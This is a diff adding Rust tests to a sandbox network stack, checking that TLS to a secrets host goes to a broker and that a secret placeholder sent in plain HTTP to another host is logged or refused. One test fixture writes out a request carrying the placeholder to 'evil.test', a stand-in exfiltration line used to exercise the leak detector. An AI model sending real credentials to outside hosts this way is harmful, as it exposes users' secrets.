@@ -1568,3 +1568,124 @@ fn dns_queries_past_the_rate_are_refused_and_logged_once() {
     assert_eq!(recs.len(), 3, "two answered, one refusal logged: {recs:?}");
     assert_eq!((recs[2].allowed, recs[2].rule.as_str()), (false, netstack::stack::RULE_LIMIT_RATE));
 }
+
+/// A sandbox's secrets as the tests give them: TLS to `api.test` goes to
+/// a "broker" that answers the guest itself with what it got and keeps
+/// the upstream connection it was given; the placeholder `tine_ph_1` may
+/// go to `api.test` only.
+#[derive(Debug)]
+struct TestHandoff {
+    refuse: bool,
+    taken: std::sync::Mutex<Vec<(String, u64, SocketAddr)>>,
+}
+
+impl netstack::control::Handoff for TestHandoff {
+    fn active(&self) -> bool {
+        true
+    }
+    fn wants(&self, name: &str) -> bool {
+        name == "api.test"
+    }
+    fn take(
+        &self,
+        name: String,
+        mut guest: std::os::unix::net::UnixStream,
+        upstream: std::net::TcpStream,
+        record: u64,
+    ) {
+        self.taken.lock().unwrap().push((name, record, upstream.peer_addr().unwrap()));
+        thread::spawn(move || {
+            let _upstream = upstream;
+            let mut first = vec![0u8; 4096];
+            let n = guest.read(&mut first).unwrap_or(0);
+            let _ = guest.write_all(format!("broker got {n} bytes").as_bytes());
+        });
+    }
+    fn leaked(&self, host: &str, head: &[u8]) -> Vec<String> {
+        let found = head.windows(9).any(|w| w == b"tine_ph_1");
+        if found && host != "api.test" {
+            vec!["api".into()]
+        } else {
+            Vec::new()
+        }
+    }
+    fn refuse_leaks(&self) -> bool {
+        self.refuse
+    }
+}
+
+#[test]
+fn tls_to_a_secrets_host_goes_to_the_broker_and_other_tls_is_spliced() {
+    let (port, rx) = recorder();
+    // Egress allow without domain rules: no name would be looked at, but
+    // a sandbox with secrets has every first message looked at.
+    let mut w = World::new(policy(Egress::Allow, &[], &[]), true, config());
+    let handoff = Arc::new(TestHandoff { refuse: false, taken: Default::default() });
+    w.control.set_handoff(Some(handoff.clone()));
+    let h = w.connect(GATEWAY_ADDR, port);
+    assert!(w.connected(h));
+    let hello = client_hello(Some("api.test"));
+    w.send_acked(h, &hello);
+    let mut got = Vec::new();
+    w.until("the broker's answer", |w| {
+        let mut buf = [0u8; 64];
+        if let Ok(n) = w.tcp(h).recv_slice(&mut buf) {
+            got.extend_from_slice(&buf[..n]);
+        }
+        !got.is_empty()
+    });
+    assert_eq!(
+        String::from_utf8(got).unwrap(),
+        format!("broker got {} bytes", hello.len()),
+        "the ClientHello went to the broker"
+    );
+    let taken = handoff.taken.lock().unwrap().clone();
+    assert_eq!(taken.len(), 1);
+    assert_eq!((taken[0].0.as_str(), taken[0].2.port()), ("api.test", port), "with the host connection the NAT made");
+    assert_eq!(w.record_for(port).domain.as_deref(), Some("api.test"));
+    // The host connection the broker was given closes with its thread,
+    // having carried nothing.
+    assert_eq!(w.recorded(&rx), Vec::<u8>::new());
+    // TLS to another name is spliced to the host as before.
+    let h = w.connect(GATEWAY_ADDR, port);
+    assert!(w.connected(h));
+    let other = client_hello(Some("other.test"));
+    w.send_acked(h, &other);
+    w.tcp(h).close();
+    assert_eq!(w.recorded(&rx), other);
+    assert_eq!(handoff.taken.lock().unwrap().len(), 1);
+}
+
+#[test]
+fn a_placeholder_in_plain_http_to_another_host_is_logged_or_refused() {
+    let (port, rx) = recorder();
+    for refuse in [false, true] {
+        let mut w = World::new(policy(Egress::Allow, &[], &[]), true, config());
+        w.control.set_handoff(Some(Arc::new(TestHandoff { refuse, taken: Default::default() })));
+        let h = w.connect(GATEWAY_ADDR, port);
+        assert!(w.connected(h));
+        // The first request is clean; the second, on the same keep-alive
+        // connection, carries the placeholder to a host it may not go to.
+        let clean = b"GET / HTTP/1.1\r\nHost: ok.test\r\n\r\n".to_vec();
+        let leaky = b"GET /?k=tine_ph_1 HTTP/1.1\r\nHost: evil.test\r\n\r\n".to_vec();
+        let both = [clean.clone(), leaky.clone()].concat();
+        assert_eq!(w.tcp(h).send_slice(&both).unwrap(), both.len());
+        if refuse {
+            w.until("the reset", |w| w.tcp(h).state() == tcp::State::Closed);
+            assert_eq!(w.recorded(&rx), clean, "refused before any of its bytes reached the host");
+        } else {
+            w.tcp(h).close();
+            assert_eq!(w.recorded(&rx), [clean, leaky].concat(), "passed on unchanged");
+        }
+        let leak: Vec<NetRecord> =
+            w.log().into_iter().filter(|r| r.rule == "secret-leak-blocked" && !r.secrets.is_empty()).collect();
+        assert_eq!(leak.len(), 1, "{:?}", w.log());
+        assert_eq!(leak[0].addr, IpAddr::V4(Ipv4Addr::LOCALHOST), "the address as the connection's record has it");
+        let conn = w.log().into_iter().find(|r| r.secrets.is_empty()).unwrap();
+        assert_eq!((conn.allowed, conn.rule == "secret-leak-blocked"), (!refuse, refuse), "{conn:?}");
+        assert_eq!(
+            (leak[0].domain.as_deref(), leak[0].secrets.clone(), leak[0].allowed),
+            (Some("evil.test"), vec!["api".to_string()], !refuse)
+        );
+    }
+}
